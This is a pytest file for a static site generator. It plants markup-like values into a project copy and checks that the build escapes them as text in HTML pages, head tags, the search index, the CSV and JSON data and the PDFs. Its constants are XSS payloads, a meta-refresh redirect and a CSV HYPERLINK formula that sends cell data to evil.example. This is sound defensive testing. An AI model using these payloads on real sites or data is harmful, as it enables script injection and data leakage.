"""Contributed plain text that looks like markup must come out as text everywhere it is published.

The check accepts these values (a title is plain text, and '<' is a character like any other); the build must
escape them wherever they land: page bodies, <title>, the header, <meta name="description">, the tags index, the
search index, the open data (JSON and CSV) and the kit HTML and PDFs. One build of a planted copy of the project
serves every assertion; the firewall would fail that build if any value came out as markup, so a passing build plus
the visible text proves both "not live" and "not lost".
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import yaml

from generator.site.build import run_build

pytestmark = pytest.mark.slow

PRINCIPLE = "Vertrouwen <img src=x onerror=alert(1)>"
EXAMPLE = '"><script>alert(2)</script>{: onclick=alert(2)}'
SUMMARY = '0;url=https://evil.example/" http-equiv="refresh'
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'
TAG = "Burgerkracht <svg onload=alert(3)>"
MUNICIPALITY = "Utrecht <img src=x onerror=alert(4)>"
KIT = "Ontbijt <img src=x onerror=alert(5)>"
ENTITY_GOAL = "&lt;img src=x onerror=alert(6)&gt; Samen leren."
ENTITY_LEAD = "&lt;img src=x onerror=alert(7)&gt; Over deze pagina."
CASE = "<svg/onload=alert(8)> op het trapveld"
SOURCE = "Rapport <iframe src=javascript:alert(9)>"


def _edit(path: Path, change) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def plant(root: Path, project: Path) -> Path:
    """A copy of the project at `root` with every hostile value planted (also handy to look at by hand)."""
    for name in ("content", "kit", "theme", "mkdocs.yml"):
        (shutil.copytree if (root / name).is_dir() else shutil.copy2)(root / name, project / name)
    principle = min((project / "content/principles").glob("*.yaml"))
    _edit(principle, lambda d: d.update(title=PRINCIPLE))
    first, second = sorted((project / "content/examples").glob("*.yaml"))[:2]
    _edit(first, lambda d: d.update(title=FORMULA, summary=SUMMARY))
    _edit(second, lambda d: d.update(title=EXAMPLE))
    code = yaml.safe_load(first.read_text(encoding="utf-8"))["municipality"]

    def rename(d):
        next(m for m in d["municipalities"] if m["code"] == code)["name"] = MUNICIPALITY

    _edit(project / "content/municipalities.yaml", rename)
    used = yaml.safe_load(principle.read_text(encoding="utf-8"))["tags"][0]
    _edit(project / "content/tags.yaml", lambda d: next(t for t in d["tags"] if t["id"] == used).update(label=TAG))
    kit = min((project / "kit").glob("*.yaml"))
    _edit(kit, lambda d: d.update(title=KIT, goal=ENTITY_GOAL))
    case = min((project / "content/cases").glob("*.yaml"))
    _edit(case, lambda d: d.update(title=CASE))
    source = min((project / "content/sources").glob("*.yaml"))
    _edit(source, lambda d: d.update(title=SOURCE))
    (project / "content/pages/aanval.md").write_text(f"# Aanval\n\n{ENTITY_LEAD}\n", encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory, root: Path) -> Path:
    project = plant(root, tmp_path_factory.mktemp("inert") / "project")
    assert run_build(project, kits=True) == 0, "the planted project must build: the firewall refused something"
    return project


def _pages(site: Path):
    from selectolax.lexbor import LexborHTMLParser

    for path in site.rglob("*.html"):
        yield path, LexborHTMLParser(path.read_text(encoding="utf-8"))


def test_no_planted_value_became_markup(planted: Path) -> None:
    live = []
    for path, tree in _pages(planted / "site"):
        for node in tree.root.traverse(include_text=False):
            names = [str(name).lower() for name in node.attributes]
            if (
                any(name.startswith("on") for name in names)
                or node.tag in ("iframe",)
                or (node.tag == "meta" and "http-equiv" in names)
            ):
                live.append(f"{path.relative_to(planted)}: <{node.tag} {node.attributes}>")
            if node.tag == "script" and "alert(" in (node.text() or ""):
                live.append(f"{path.relative_to(planted)}: script {node.text()[:60]}")
    assert not live, "\n".join(live[:20])


@pytest.mark.parametrize("value", [PRINCIPLE, EXAMPLE, FORMULA, TAG, MUNICIPALITY, KIT, CASE, SOURCE])
def test_every_planted_value_is_shown_as_text(planted: Path, value: str) -> None:
    shown = any(value in (tree.body.text() if tree.body else "") for _, tree in _pages(planted / "site"))
    assert shown, f"not shown as text anywhere: {value}"


def test_titles_and_descriptions_in_the_head_stay_text(planted: Path) -> None:
    from selectolax.lexbor import LexborHTMLParser

    site = planted / "site"
    pages = [LexborHTMLParser(p.read_text(encoding="utf-8")) for p in site.rglob("index.html")]
    titles = [tree.css_first("title").text() for tree in pages]
    assert any(PRINCIPLE in t for t in titles) and any(EXAMPLE in t for t in titles)
    descriptions = [m.attributes.get("content") for tree in pages for m in tree.css('meta[name="description"]')]
    assert SUMMARY in descriptions


def test_entities_are_not_decoded_into_tags(planted: Path) -> None:
    site = planted / "site"
    for value in (ENTITY_GOAL, ENTITY_LEAD):
        text = value.replace("&lt;", "<").replace("&gt;", ">")
        assert any(text in (tree.body.text() if tree.body else "") for _, tree in _pages(site)), text


def test_open_data_holds_the_values_as_data(planted: Path) -> None:
    site = planted / "site"
    data = json.loads((site / "data/wijkkit.json").read_text(encoding="utf-8"))
    assert {FORMULA, EXAMPLE} <= {e["title"] for e in data["examples"]}
    rows = list(csv.reader(io.StringIO((site / "data/praktijkvoorbeelden.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_search_index_holds_text_not_markup(planted: Path) -> None:
    index = json.loads((planted / "site/search/search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        for field in ("title", "text"):
            assert "<img src=x" not in doc.get(field, "") and "<script>" not in doc.get(field, ""), doc["location"]


def test_kit_pdf_prints_the_title_as_text(planted: Path) -> None:
    from pypdf import PdfReader

    kit_id = min((planted / "kit").glob("*.yaml")).stem
    pdfs = sorted((planted / "site/kits" / kit_id).glob("*.pdf"))
    assert pdfs
    text = " ".join(page.extract_text() or "" for page in PdfReader(pdfs[0]).pages)
    assert "Ontbijt <img src=x onerror=alert(5)>" in " ".join(text.split())
